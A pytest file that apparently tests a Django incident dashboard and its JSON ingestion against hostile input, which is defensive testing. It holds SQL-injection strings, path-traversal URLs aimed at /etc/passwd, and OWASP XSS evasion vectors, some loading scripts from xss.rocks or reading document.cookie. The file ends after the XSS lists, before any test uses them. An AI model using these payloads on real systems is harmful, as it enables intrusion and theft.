"""Hostile input at every entry point: what an attacker or a broken upstream sends.

Each case ends as a clear rejection (naming the record and the field) or is rendered inert;
never a crash, a 500, a lost valid neighbour or a partly stored record.

Entry points: `ingest_events` and `parse_record` (file input), the ingestion service and the
live subscriber's ingest thread (MCP notifications), the dashboard's filters, incident and
report ids in URLs, report markdown and stored report HTML (the OWASP XSS filter-evasion
vectors) on the report page, the incident page and the admin preview, and container logs.
"""

from __future__ import annotations

import io
import json
import re
import sys
import tracemalloc
from collections import Counter
from html import unescape
from html.parser import HTMLParser
from pathlib import Path

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils.html import escape

from incidents.events import RejectedRecord, parse_record
from incidents.ingest import IngestionService
from incidents.mcp_client import SUBSCRIPTION_ERROR_LOGGER, LogMessage
from incidents.models import FaultEvent, Incident
from incidents.rendering import PLAIN_TEXT_NOTE, render
from incidents.subscriber import IngestWorker, Subscriber, SubscriberConfig
from tests.builders import make_execution, make_fault_event, make_incident, make_report

pytestmark = pytest.mark.django_db

LIST = reverse("incidents:list")
DEEP = 10_000  # levels of nesting: far past the json module's recursion limit


def payload(fault_id: str, **overrides) -> dict:
    values = {
        "faultId": fault_id,
        "cluster": "prod-us-east-1",
        "faultType": "CrashLoop",
        "severity": "critical",
        "timestamp": "2025-12-20T15:30:00Z",
        "resource": {"kind": "Pod", "name": f"api-{fault_id}", "namespace": "payments"},
    }
    values.update(overrides)
    return values


def line(fault_id: str, **overrides) -> bytes:
    return json.dumps(payload(fault_id, **overrides)).encode()


def with_raw(field: str, raw_json: bytes) -> bytes:
    """A valid record whose `field` holds `raw_json` exactly as given (bytes, not re-encoded)."""
    marker = b'"__RAW__"'
    return line("hostile", **{field: "__RAW__"}).replace(marker, raw_json)


def envelope(data, logger: str = "kubernetes/resource-faults") -> dict:
    return {
        "jsonrpc": "2.0",
        "method": "notifications/message",
        "params": {"level": "warning", "logger": logger, "data": data},
    }


def ingest(tmp_path: Path, *records: bytes, name: str = "hostile.jsonl") -> tuple[int, str, str]:
    """Run the real command on a file of these lines: (exit status, stdout, stderr)."""
    path = tmp_path / name
    path.write_bytes(b"\n".join(records) + b"\n")
    return run_command(str(path))


def run_command(*args: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    try:
        call_command("ingest_events", *args, stdout=out, stderr=err)
        status = 0
    except SystemExit as exit_:
        status = exit_.code
    return status, out.getvalue(), err.getvalue()


def assert_only_neighbours_stored(*fault_ids: str) -> None:
    """Exactly the valid records are stored, each whole: its fault row and one incident."""
    assert set(FaultEvent.objects.values_list("fault_id", flat=True)) == set(fault_ids)
    assert sorted(Incident.objects.values_list("fault_id", flat=True)) == sorted(fault_ids)
    for incident in Incident.objects.select_related("fault"):
        assert incident.cluster == incident.fault.cluster == "prod-us-east-1"
        assert incident.resource_name == f"api-{incident.fault_id}"


# -- ingestion: each hostile record between two valid ones ------------------------------------
HOSTILE_RECORDS = {
    "10,000-level nested object": (b'{"a":' * DEEP + b"1" + b"}" * DEEP, "record is nested too"),
    "10,000-level nested array": (b"[" * DEEP + b"]" * DEEP, "record is nested too deeply"),
    "10,000 levels inside a valid record": (
        with_raw("context", b"[" * DEEP + b"]" * DEEP),
        "record is nested too deeply to parse",
    ),
    "10,000 levels in an envelope's data string": (
        json.dumps(envelope('{"a":' * DEEP + "1" + "}" * DEEP)).encode(),
        "params.data is nested too deeply to parse",
    ),
    "a 10,000-character cluster": (
        line("hostile", cluster="c" * 10_000),
        "cluster is longer than 255 characters",
    ),
    "a 2 MB context": (
        line("hostile", context="x" * (2 * 1024 * 1024)),
        "over the limit of 1048576 bytes",
    ),
    "an escaped NUL in the cluster": (
        line("hostile", cluster="prod\x00"),
        "cluster contains a NUL character",
    ),
    "an escaped NUL in the fault id": (
        line("hostile\x00"),
        "faultId contains a NUL character",
    ),
    "an escaped NUL in resource.name": (
        line("hostile", resource={"name": "a\x00b"}),
        "resource.name contains a NUL character",
    ),
    "a raw NUL byte inside a string": (
        line("hostile").replace(b"prod-us-east-1", b"prod\x00us"),
        "record is not valid JSON: Invalid control character",
    ),
    "invalid UTF-8 bytes": (
        line("hostile").replace(b"CrashLoop", b"Crash\xff\xfeLoop"),
        "record is not UTF-8 text (invalid start byte)",
    ),
    "an overlong UTF-8 slash": (
        line("hostile").replace(b"CrashLoop", b"\xc0\xafetc"),
        "record is not UTF-8 text",
    ),
    "a lone surrogate escape": (
        with_raw("faultType", b'"\\ud800"'),
        "faultType is not valid Unicode (a lone surrogate)",
    ),
    "a number where the cluster belongs": (
        line("hostile", cluster=42),
        "cluster is a JSON number, not a string",
    ),
    "a 5,000-digit number where the fault id belongs": (
        with_raw("faultId", b"1" + b"0" * 5000),
        "record holds a number of more than 4300 digits",  # Python's int_max_str_digits
    ),
    "a 5,000-digit number in the context": (
        with_raw("context", b"[" + b"9" * 5000 + b"]"),
        "record holds a number of more than 4300 digits",
    ),
    "a 1e999 float where the severity belongs": (
        with_raw("severity", b"1e999"),
        "severity Infinity is not one of",
    ),
    "a list where the fault type belongs": (
        line("hostile", faultType=["CrashLoop"]),
        "faultType is a JSON array, not a string",
    ),
    "an object where the severity belongs": (
        line("hostile", severity={"$gt": ""}),
        'severity {"$gt": ""} is not one of critical, high, medium, low',
    ),
    "a boolean where the cluster belongs": (
        line("hostile", cluster=True),
        "cluster is a JSON boolean, not a string",
    ),
    "a number as the timestamp": (
        line("hostile", timestamp=1766244600),
        "timestamp 1766244600 is not RFC 3339",
    ),
    "an out-of-range timestamp": (
        line("hostile", timestamp="9999-99-99T99:99:99Z"),
        "timestamp '9999-99-99T99:99:99Z' is not RFC 3339",
    ),
    "a string where resource belongs": (
        line("hostile", resource="Pod/api"),
        "resource is a JSON string, not a JSON object",
    ),
    "an array record": (b"[1, 2, 3]", "record is a JSON array, not a JSON object"),
    "a null record": (b"null", "record is JSON null, not a JSON object"),
    "a truncated record": (line("hostile")[:40], "record is not valid JSON"),
    "an envelope whose data is a list": (
        json.dumps(envelope([payload("hostile")])).encode(),
        "params.data is a JSON array, not a JSON object",
    ),
    "an envelope whose level is an object": (
        json.dumps(
            {
                **envelope(payload("hostile")),
                "params": {
                    "level": {},
                    "logger": "kubernetes/faults",
                    "data": {
                        "cluster": "c",
                        "event": {
                            "reason": "BackOff",
                            "involvedObject": {"name": "p"},
                            "timestamp": "2025-12-20T15:30:00Z",
                        },
                    },
                },
            }  # fmt: skip
        ).encode(),
        "params.level is a JSON object, not a string",
    ),
}


@pytest.mark.parametrize(
    ("raw", "reason"), HOSTILE_RECORDS.values(), ids=list(HOSTILE_RECORDS.keys())
)
def test_hostile_record_is_rejected_by_line_and_its_neighbours_are_stored(tmp_path, raw, reason):
    status, stdout, stderr = ingest(tmp_path, line("good-1"), raw, line("good-2"))
    assert status == 1
    assert stdout.splitlines()[-1] == (
        "received 3: created 2, duplicate 0, coalesced 0, silenced 0, rejected 1, ignored 0"
    )
    (rejection,) = stderr.splitlines()
    assert rejection.startswith(f"{tmp_path / 'hostile.jsonl'}:2: ")
    assert reason in rejection
    assert len(rejection) < 500  # the reason names the problem; it does not echo the record
    assert_only_neighbours_stored("good-1", "good-2")


@pytest.mark.parametrize(
    ("raw", "reason"), HOSTILE_RECORDS.values(), ids=list(HOSTILE_RECORDS.keys())
)
def test_parse_record_rejects_hostile_record_with_a_reason(raw, reason):
    with pytest.raises(RejectedRecord) as rejected:
        parse_record(raw)
    assert reason in rejected.value.reason
    # The same text as str (how a caller holding decoded text passes it) ends the same way.
    try:
        text = raw.decode("utf-8")
    except UnicodeDecodeError:
        return
    with pytest.raises(RejectedRecord):
        parse_record(text)


def test_parse_record_rejects_a_deeply_nested_mapping():
    nested: dict = {}
    inner = nested
    for _ in range(DEEP):
        inner["a"] = {}
        inner = inner["a"]
    with pytest.raises(RejectedRecord, match="record is nested too deeply to parse"):
        parse_record(payload("deep", context=nested))


def test_hostile_records_together_reject_each_and_keep_every_valid_one(tmp_path):
    records = []
    for index, (raw, _reason) in enumerate(HOSTILE_RECORDS.values()):
        records += [line(f"good-{index}"), raw]
    rejects = tmp_path / "rejects.jsonl"
    path = tmp_path / "all.jsonl"
    path.write_bytes(b"\n".join(records) + b"\n")
    status, stdout, stderr = run_command(str(path), "--rejects", str(rejects))
    n = len(HOSTILE_RECORDS)
    assert status == 1
    assert stdout.splitlines()[-1] == (
        f"received {2 * n}: created {n}, duplicate 0, coalesced 0, silenced 0, rejected {n}, "
        "ignored 0"
    )
    assert [int(entry.split(":")[1]) for entry in stderr.splitlines()] == list(
        range(2, 2 * n + 1, 2)
    )
    assert_only_neighbours_stored(*(f"good-{index}" for index in range(n)))
    # --rejects gives back every hostile record byte for byte (NUL and invalid UTF-8 included).
    assert rejects.read_bytes().split(b"\n")[:-1] == [raw for raw, _ in HOSTILE_RECORDS.values()]


def test_a_deeply_nested_first_line_is_rejected_without_a_crash(tmp_path):
    # A first line starting with "[" makes the stream a JSON array: its value cannot be skipped
    # without parsing it, so the stream stops there with a reason (as for broken JSON).
    status, stdout, stderr = ingest(tmp_path, b"[" * DEEP + b"]" * DEEP, line("after"))
    assert status == 1
    assert stdout.splitlines()[-1].startswith("received 1: created 0")
    assert "hostile.jsonl:1: record is nested too deeply to parse; the rest is not read" in stderr
    assert not Incident.objects.exists()


def test_a_deeply_nested_array_item_stops_the_array_and_keeps_the_items_before(tmp_path):
    deep = b"[" * DEEP + b"]" * DEEP
    status, stdout, stderr = ingest(tmp_path, b"[" + line("before") + b",", deep + b"]")
    assert status == 1
    assert "hostile.jsonl:2: record is nested too deeply to parse" in stderr
    assert_only_neighbours_stored("before")


def test_year_9999_and_year_1_timestamps_are_rejected_and_their_neighbours_stored(tmp_path):
    # F2: one such record crashed the command (OverflowError, no summary) and lost its
    # neighbours on every rerun.
    status, stdout, stderr = ingest(
        tmp_path,
        line("good-1"),
        line("late", timestamp="9999-12-31T23:30:00-01:00"),
        line("good-2"),
        line("early", timestamp="0001-01-01T00:30:00+01:00"),
        line("good-3"),
    )
    assert status == 1
    assert stdout.splitlines()[-1] == (
        "received 5: created 3, duplicate 0, coalesced 0, silenced 0, rejected 2, ignored 0"
    )
    accepted = "accepted from 2000-01-01T00:00:00Z up to 2100-01-01T00:00:00Z"
    assert stderr.splitlines() == [
        f"{tmp_path / 'hostile.jsonl'}:2: timestamp '9999-12-31T23:30:00-01:00' is out of range "
        f"({accepted})",
        f"{tmp_path / 'hostile.jsonl'}:4: timestamp '0001-01-01T00:30:00+01:00' is out of range "
        f"({accepted})",
    ]
    assert_only_neighbours_stored("good-1", "good-2", "good-3")


@pytest.mark.django_db(transaction=True)
def test_a_year_9999_timestamp_sent_live_is_rejected_and_the_subscriber_goes_on(tmp_path):
    # F2, live: the same record through the subscriber's writer, between valid ones.
    rejects = tmp_path / "rejects.jsonl"
    worker = IngestWorker(source="live", rejects_path=rejects)
    worker.start()
    worker.wait_ready()
    records = [payload("good-1"), payload("late", timestamp="9999-12-31T23:30:00-01:00"),
               payload("good-2")]  # fmt: skip
    for sequence, data in enumerate(records, start=1):
        worker.submit(
            LogMessage("warning", "kubernetes/faults", data).envelope(), sequence=sequence
        )
    worker.stop()
    worker.join(timeout=30)
    assert worker.failure is None
    assert (worker.counts.created, worker.counts.rejected) == (2, 1)
    assert_only_neighbours_stored("good-1", "good-2")
    assert "9999-12-31T23:30:00-01:00" in rejects.read_text()


def huge_line(size: int) -> bytes:
    return line("huge", context="")[:-1] + b', "padding": "' + b"x" * size + b'"}'


def traced_peak(call) -> tuple[object, int]:
    """call()'s result and the peak of Python memory allocated while it ran, in bytes."""
    tracemalloc.start()
    try:
        result = call()
        return result, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("with_rejects", [False, True], ids=["plain", "rejects"])
def test_a_50_mb_line_is_rejected_in_bounded_memory_and_its_neighbours_kept(tmp_path, with_rejects):
    # F12: memory followed the longest line (3.24 GB to reject a 1 GiB line). Now the line is
    # streamed: read in chunks, counted, and copied to --rejects without being held whole.
    huge = huge_line(50 * 1024 * 1024)
    path = tmp_path / "hostile.jsonl"
    path.write_bytes(b"\n".join([line("good-1"), huge, line("good-2")]) + b"\n")
    rejects = tmp_path / "rejects.jsonl"
    args = [str(path), "--rejects", str(rejects)] if with_rejects else [str(path)]
    (status, stdout, stderr), peak = traced_peak(lambda: run_command(*args))
    assert status == 1
    assert stdout.splitlines()[-1].endswith(
        "created 2, duplicate 0, coalesced 0, silenced 0, rejected 1, ignored 0"
    )
    assert re.fullmatch(
        rf".*hostile\.jsonl:2: record is {len(huge)} bytes, over the limit of 1048576 bytes\n",
        stderr,
    )
    assert_only_neighbours_stored("good-1", "good-2")
    # The limit (1 MiB) plus one read chunk (1 MiB) plus the command's own allocations.
    assert peak < 8 * 1024 * 1024, f"peak Python allocation {peak / 2**20:.1f} MiB"
    if with_rejects:
        assert rejects.read_bytes() == huge + b"\n"


def test_huge_but_allowed_context_is_stored_whole(tmp_path):
    context = "é" * 450_000  # 900 KB of UTF-8, under the 1 MB record limit
    record = json.dumps(payload("big", context=context), ensure_ascii=False).encode()
    status, _stdout, stderr = ingest(tmp_path, record)
    assert status == 0, stderr
    stored = json.loads(FaultEvent.objects.get(fault_id="big").context)
    upstream = stored.pop("_upstream")
    assert stored == {"context": context}
    # Its JSON text (2.7 MB of \u00e9) is over the record limit: kept whole but not twice.
    assert upstream["recordOmitted"].endswith("bytes as JSON, over 1048576")


def test_nul_and_surrogates_in_context_are_stored_as_json_escapes(tmp_path):
    # PostgreSQL text refuses \x00: the context is JSON text, so they stay as \u0000 escapes.
    raw = with_raw("context", b'"a\\u0000b\\ud800c"').replace(b'"hostile"', b'"nul-ctx"')
    raw = raw[:-1] + b', "x\\u0000y": {"\\u0000": "\\u0000"}}'
    status, stdout, stderr = ingest(tmp_path, raw)
    assert (status, stderr) == (0, ""), stderr
    context = FaultEvent.objects.get(fault_id="nul-ctx").context
    assert "\x00" not in context
    stored = json.loads(context)
    assert stored.pop("_upstream")["record"] == raw.decode()
    assert stored == {"context": "a\x00b\ud800c", "x\x00y": {"\x00": "\x00"}}


def test_sql_in_fields_is_stored_verbatim_and_harms_nothing(tmp_path):
    sql = "x'); DROP TABLE incidents; --"
    status, _stdout, _stderr = ingest(
        tmp_path, line(sql, cluster="prod-us-east-1", faultType="' OR '1'='1")
    )
    assert status == 0
    incident = Incident.objects.get(fault_id=sql)
    assert incident.fault_type == "' OR '1'='1"
    assert FaultEvent.objects.count() == 1


# -- the MCP path: notifications from a live server ----------------------------------------------
HOSTILE_ENVELOPES = {
    "deeply nested data string": envelope('{"a":' * DEEP + "1" + "}" * DEEP),
    "NUL in the cluster": envelope(payload("x", cluster="a\x00")),
    "a number as the fault id": envelope(payload("x") | {"faultId": 7}),
    "data is a list": envelope([payload("x")]),
    "data is broken JSON text": envelope('{"faultId": "x", '),
    "params is a string": {"jsonrpc": "2.0", "method": "notifications/message", "params": "x"},
    "a 2 MB sample": envelope(payload("x", logs=[{"sample": "y" * 2_000_000}])),
}


def _deeply_nested_object() -> dict:
    nested: dict = {}
    inner = nested
    for _ in range(DEEP):
        inner["a"] = {}
        inner = inner["a"]
    return nested


def test_hostile_notifications_are_rejected_by_the_ingestion_service():
    rejections = []
    service = IngestionService(on_reject=rejections.append)
    hostile = dict(HOSTILE_ENVELOPES)
    hostile["a 10,000-level data object"] = envelope(payload("x", context=_deeply_nested_object()))
    for sequence, (_name, env) in enumerate(hostile.items(), start=1):
        service.add(env, source="mcp", line=sequence)
    service.add(envelope(payload("good-1")), source="mcp", line=len(hostile) + 1)
    service.flush()
    reasons = {rejection.line: rejection.reason for rejection in rejections}
    assert len(reasons) == len(hostile), reasons
    assert service.counts.created == 1
    expected = [
        "params.data is nested too deeply to parse",
        "cluster contains a NUL character",
        "faultId is a JSON number, not a string",
        "params.data is a JSON array, not a JSON object",
        "params.data is not valid JSON",
        "params is missing or not an object",
        "over the limit of 1048576 bytes",
        "record is nested too deeply to parse",
    ]
    for sequence, fragment in enumerate(expected, start=1):
        assert fragment in reasons[sequence], (sequence, reasons[sequence])
    assert_only_neighbours_stored("good-1")


@pytest.mark.django_db(transaction=True)
def test_a_hostile_notification_does_not_stop_live_ingestion():
    """The subscriber's one ingest thread survives what would crash the json module."""
    worker = IngestWorker(source="mcp-test", batch_size=10)
    worker.start()
    try:
        worker.wait_ready()
        worker.submit(envelope(payload("good-1")), sequence=1)
        worker.submit(envelope('{"a":' * DEEP + "1" + "}" * DEEP), sequence=2)
        worker.submit(envelope(payload("deep", context=_deeply_nested_object())), sequence=3)
        worker.submit(envelope(payload("good-2")), sequence=4)
    finally:
        worker.stop()
        worker.join(timeout=30)
    assert not worker.is_alive()
    assert worker.failure is None
    assert (worker.counts.created, worker.counts.rejected) == (2, 2)
    assert_only_neighbours_stored("good-1", "good-2")


@pytest.mark.parametrize(
    "data",
    ['{"error": ' + "[" * DEEP + "]" * DEEP + "}", "[" + "9" * 5000 + "]", ["a list"], None, 7],
    ids=["10,000 levels", "5,000 digits", "a list", "null", "a number"],
)
def test_a_hostile_subscription_error_notification_is_counted_not_raised(data):
    subscriber = Subscriber(SubscriberConfig(url="http://mcp.invalid/mcp"))
    message = LogMessage(level="error", logger=SUBSCRIPTION_ERROR_LOGGER, data=data)
    subscriber._on_message(message)  # the SDK's logging callback: must not raise
    assert (subscriber.notifications, subscriber.subscription_errors) == (1, 1)
    assert subscriber.worker.backlog() == 1  # queued like any notification, then ignored


# -- the dashboard's filters -----------------------------------------------------------------
SQL_TEXTS = [
    "' OR '1'='1",
    "1; DROP TABLE incidents; --",
    "%' UNION SELECT username, password FROM auth_user --",
    "\\'; SELECT pg_sleep(5); --",
    "%_%",
    "'||(SELECT 1)||'",
]
FILTERS = ["status", "severity", "cluster", "namespace", "resource_kind", "fault_type", "q"]
CLOSED_FILTERS = {"status", "severity"}


@pytest.fixture
def signed_in(client, viewer):
    client.force_login(viewer)
    return client


@pytest.fixture
def one_incident():
    return make_incident(event=make_fault_event(resource_name="api-1", cluster="prod-us-east-1"))


@pytest.mark.parametrize("name", FILTERS)
@pytest.mark.parametrize("text", SQL_TEXTS)
def test_sql_looking_filter_values_match_nothing_or_show_an_error(
    signed_in, one_incident, name, text
):
    response = signed_in.get(LIST, {name: text})
    if name in CLOSED_FILTERS:
        assert response.status_code == 400
        assert "Select a valid choice" in response.content.decode()
    else:
        assert response.status_code == 200
        assert response.context["page"].rows == []
    assert Incident.objects.count() == 1  # and the table is still there
    export = signed_in.get(reverse("incidents:export"), {name: text})
    assert export.status_code == (400 if name in CLOSED_FILTERS else 200)


@pytest.mark.parametrize(
    ("name", "value", "error"),
    [
        ("status", "exploded", "Select a valid choice. exploded is not one of"),
        ("status", "PENDING", "Select a valid choice. PENDING is not one of"),
        ("severity", "catastrophic", "Select a valid choice. catastrophic is not one of"),
        ("sort", "-password", "Select a valid choice. -password is not one of"),
        ("sort", "incident_id; DROP TABLE incidents", "Select a valid choice."),
        ("after", "not-a-cursor", "start again from the newest incidents"),
        ("after", "A" * 600, "Ensure this value has at most 512 characters"),
        ("before", "eyJ4IjogMX0=", "start again from the newest incidents"),  # {"x": 1}
        ("cluster", "\x00", "Select a valid choice."),
        ("namespace", "x" * 256, "Select a valid choice."),
        ("q", "x" * 201, "Ensure this value has at most 200 characters"),
        ("q", "a\x00b", "Null characters are not allowed."),
    ],
)
def test_unknown_or_malformed_values_answer_400_with_their_error_and_no_rows(
    signed_in, one_incident, name, value, error
):
    response = signed_in.get(LIST, {name: value})
    assert response.status_code == 400
    assert escape(error) in response.content.decode()
    assert "page" not in response.context
    assert str(one_incident.incident_id) not in response.content.decode()


MALFORMED_DATES = [
    "2025-13-45",
    "2025-02-30",
    "2025-12-20T25:61:00",
    "yesterday",
    "1e309",
    "2025-12-20T15:30:00+99:00",
    "99999-01-01",
    "0000-01-01",
    "0001-01-01",
    "0001-01-01T00:00:00",
    "0001-01-01T00:00:00+14:00",
    "9999-12-31",
    "9999-12-31T23:59:59.999999",
    "9000-01-02",
    "9999-12-31T23:59:59-12:00",
    "' OR 1=1 --",
    "\x00",
    "2" * 100,
]


@pytest.mark.parametrize("name", ["created_after", "created_before"])
@pytest.mark.parametrize("value", MALFORMED_DATES)
def test_malformed_or_extreme_dates_never_answer_500(signed_in, one_incident, name, value):
    response = signed_in.get(LIST, {name: value})
    assert response.status_code == 400
    assert "Enter a date" in response.content.decode()
    export = signed_in.get(reverse("incidents:export"), {name: value})
    assert export.status_code in (200, 400)


@pytest.mark.parametrize(
    ("after", "before", "status"),
    [
        ("0001-01-01", "9999-12-31", 400),
        ("9999-12-31", "0001-01-01", 400),
        ("1970-01-01", "1970-01-01", 200),  # the earliest bound: an empty day, not an overflow
        ("1970-01-01", "9000-01-01T00:00:00Z", 200),
        ("8999-12-31", None, 200),
        ("2025-12-20", "2025-12-19", 400),  # a reversed range: a form error
    ],
)
def test_extreme_date_ranges_are_shown_or_refused_never_500(
    signed_in, one_incident, after, before, status
):
    query = {"created_after": after} | ({"created_before": before} if before else {})
    response = signed_in.get(LIST, query)
    assert response.status_code == status
    if status == 400:
        message = "Enter a date between 1970-01-01 and 9000-01-01."
        if after == "2025-12-20":
            message = "must be later than"
        assert message in response.content.decode()


def test_sixty_repeated_values_are_refused_with_a_message(signed_in, one_incident):
    response = signed_in.get(LIST, {"cluster": [f"c{i}" for i in range(60)]})
    assert response.status_code == 400
    assert "At most 50 values, not 60." in response.content.decode()


@pytest.mark.parametrize("name", ["status", "cluster", "q", "created_after", "unknown"])
def test_thousands_of_repeated_parameters_answer_400(signed_in, one_incident, name):
    query = "&".join(f"{name}=v{i}" for i in range(5000))
    response = signed_in.get(f"{LIST}?{query}")
    assert response.status_code == 400
    export = signed_in.get(f"{reverse('incidents:export')}?{query}")
    assert export.status_code == 400


# -- ids in URLs -----------------------------------------------------------------------------------
BAD_ID_PATHS = [
    "/incidents/not-a-uuid/",
    "/incidents/00000000-0000-0000-0000-000000000000/",
    "/incidents/123e4567-e89b-12d3-a456-42661417400/",  # one digit short
    "/incidents/123e4567-e89b-12d3-a456-4266141740000/",  # one digit long
    "/incidents/..%2F..%2Fetc/passwd/",
    "/incidents/../../etc/passwd",
    "/incidents/%2e%2e%2f%2e%2e%2fetc%2fpasswd/",
    "/incidents/%00/",
    "/incidents/%C0%AF/",
    "/incidents/%FF%FE/",
    "/incidents/' OR '1'='1/",
    "/incidents/" + "a" * 5000 + "/",
    "/reports/%00/raw/",
    "/reports/%00/",
    "/reports/..%2F..%2Fetc%2Fpasswd/raw/",
    "/reports/00000000-0000-0000-0000-000000000000/",
    "/reports/00000000-0000-0000-0000-000000000000/raw/",
    "/reports/{{7*7}}/",
    "/reports/<script>/raw/",
]


@pytest.mark.parametrize("path", BAD_ID_PATHS)
def test_malformed_unknown_or_traversing_ids_are_404(signed_in, one_incident, path):
    response = signed_in.get(path)
    assert response.status_code == 404
    assert b"root:" not in response.content


@pytest.mark.parametrize(
    "path",
    [
        "/admin/incidents/incident/not-a-uuid/change/",
        "/admin/incidents/incident/..%2F..%2Fetc%2Fpasswd/change/",
        "/admin/incidents/triagereport/%00/change/",
        "/admin/incidents/incident/00000000-0000-0000-0000-000000000000/change/",
    ],
)
def test_admin_with_malformed_ids_never_answers_500(admin_client, path):
    response = admin_client.get(path)
    assert response.status_code in (302, 404)


ADMIN_MODELS = ["incident", "faultevent", "agentexecution", "triagereport"]
ADMIN_QUERIES = [
    "q=' OR 1=1 --",
    "q=%00",
    "q=" + "x" * 5000,
    "o=99",
    "o=-1.abc",
    "p=99999999999999999999",
    "status__exact=bogus",
    "severity__exact=%00",  # PostgreSQL refuses NUL in text: was a DataError, a 500
    "cluster=%00",
    "incident__status=%00",
    "cluster__exact=' OR 1=1",
    "created_at__year=99999",
    "created_at__month=13&created_at__year=2025",
    "created_at__gte=0001-01-01T00:00:00%2B14:00",  # overflowed on SQLite: a 500
    "generated_at__day=32&generated_at__month=1&generated_at__year=2025",
    "timestamp__gte=garbage",
    "exit_code=abc",
    "exit_code__isnull=maybe",
]


@pytest.mark.parametrize("query", ADMIN_QUERIES)
@pytest.mark.parametrize("model", ADMIN_MODELS)
def test_admin_changelists_refuse_hostile_lookups_without_a_500(admin_client, model, query):
    response = admin_client.get(f"/admin/incidents/{model}/?{query}")
    # 200 (ignored or no rows) or Django's redirect to ?e=1 ("wacky lookup parameters").
    assert response.status_code in (200, 302), response.status_code
    if response.status_code == 302:
        assert response["Location"].endswith("?e=1")


# -- report markdown and stored HTML: the OWASP XSS filter-evasion cheat sheet -------------------
XSS_VECTORS = [
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=//xss.rocks/.j>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116"
    '&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;"
    "&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72"
    "&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<a href="java&#x0D;script:alert(1)">x</a>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<a href="  JAVASCRIPT:alert(1)">click</a>',
    '<a href="http://x" title="a&quot; onmouseover=&quot;alert(1)">x</a>',
    "<BODY ONLOAD=alert('XSS')>",
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    "<details open ontoggle=alert(1)>x</details>",
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,'
    'PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><tr><td>x</td></tr></TABLE>",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">x</DIV>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</UL>",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH" '
    'type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    '<form action="javascript:alert(1)"><button formaction=javascript:alert(1)>x</button></form>',
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    '<img src="x` `<script>alert(1)</script>"` `>',
    '"><script>alert(document.cookie)</script>',
    # The same through markdown's own link and image syntax.
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](java%0ascript:alert(1))",
    "![x](javascript:alert(1))",
    "[click][evil]\n\n[evil]: javascript:alert(1)",
    '[click](vbscript:msgbox(1) "title")',
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    "# Heading <img src=x onerror=alert(1)>",
    "```\n</code></pre><script>alert(1)</script>\n```",
]
DANGEROUS_TAGS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "meta", "base",
    "form", "input", "button", "link", "style", "svg", "math", "body", "textarea", "select",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "background", "data", "xlink:href",
                  "poster", "srcdoc", "content", "lowsrc", "dynsrc"}  # fmt: skip
